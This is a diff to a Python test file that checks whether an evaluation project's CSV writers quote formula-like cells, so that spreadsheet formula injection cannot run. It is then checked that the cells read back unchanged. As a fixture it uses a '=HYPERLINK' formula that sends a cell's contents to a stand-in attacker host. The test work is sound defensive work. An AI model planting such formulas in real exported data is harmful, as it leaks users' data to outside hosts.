@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+from pathlib import Path
+
 import pandas as pd
 
-from analysis.cells import md_cell
+from analysis.cells import FORMULA_START, md_cell
 from analysis.echoreview_report import pairwise_markdown
 from analysis.reviewers import markdown as reviewers_markdown
 
@@ -29,3 +32,51 @@ def test_reviewers_and_echoreview_tables_escape_their_name_cells() -> None:
                            **{f"{k}{s}": 0.5 for k in ("win", "tie", "loss") for s in ("", "_lo", "_hi")}}])
     row = pairwise_markdown(pairs)[4]
     assert SHOWN in row and r"g\|h" in row and r"\[o\](x)" in row and "<script>" not in row
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+
+
+def test_results_csv_is_formula_safe_and_read_back_as_written(tmp_path: Path) -> None:
+    """Issue 25 #19: results.csv kept a judge's raw answer `=HYPERLINK(...)` as a cell a spreadsheet runs. It
+    is quoted now, and the analysis (pandas) and the viewer (DuckDB) read every cell back as the run had it."""
+    from analysis.collect import load_results
+    from analysis.synthetic import synthetic_results
+    from analysis.viewdata import Study
+    from experiments.study import results_writers
+
+    frame = synthetic_results(n_instances=2, seed=1).iloc[:12].reset_index(drop=True)
+    frame = frame.astype({c: str for c in frame.columns if isinstance(frame[c].dtype, pd.CategoricalDtype)})
+    texts = [FORMULA, "'=already quoted", "-3", "+ plus", "@at", "'plain", "-", "plain"]
+    frame["raw"] = (texts * 2)[: len(frame)]
+    (tmp_path / "run").mkdir()
+    results_writers(frame)["results.csv"](tmp_path / "run" / "results.csv")
+    cells = [c for row in csv.reader((tmp_path / "run" / "results.csv").open()) for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START) and c not in ("-3", "-")]  # nothing would run
+    assert f"'{FORMULA}" in cells
+    loaded = load_results(tmp_path)
+    assert loaded["raw"].astype(str).tolist() == frame["raw"].tolist()
+    with Study(tmp_path) as study:
+        shown = study.item_rows(frame["instance_id"].iloc[0], frame["candidate_id"].iloc[0])
+        by_row = frame.set_index(["prompt_id", "sample_idx", "dimension"])["raw"]
+        for row in shown.itertuples():
+            assert row.raw == by_row[(row.prompt_id, row.sample_idx, row.dimension)]
+
+
+def test_ingested_labels_are_formula_safe_and_read_back_as_written(tmp_path: Path) -> None:
+    """Issue 25 #19: `annotate ingest` wrote humans_new.csv with plain to_csv: an annotator named
+    `=HYPERLINK(...)` stayed a formula. Written by the one formula-safe writer; load_humans undoes it."""
+    from analysis import annotate
+    from analysis.collect import load_humans
+
+    key = "item,instance_id,candidate_id,source,dimension,low,high\nA,i1,-c1,reference,originality,0,3\n"
+    (tmp_path / "key.csv").write_text(key)
+    sheet = pd.DataFrame({"item": ["A"], "annotator": [FORMULA], "score": ["2"]})
+    sheet.to_csv(tmp_path / "sheet.csv", index=False)
+    out = tmp_path / "humans_new.csv"
+    argv = ["ingest", str(tmp_path / "sheet.csv"), "--key", str(tmp_path / "key.csv"), "--out", str(out)]
+    assert annotate.main(argv) == 0
+    cells = [c for row in csv.reader(out.open()) for c in row]
+    assert f"'{FORMULA}" in cells and FORMULA not in cells and "'-c1" in cells
+    labels = load_humans(out)
+    assert labels["annotator"].tolist() == [FORMULA] and labels["candidate_id"].tolist() == ["-c1"]
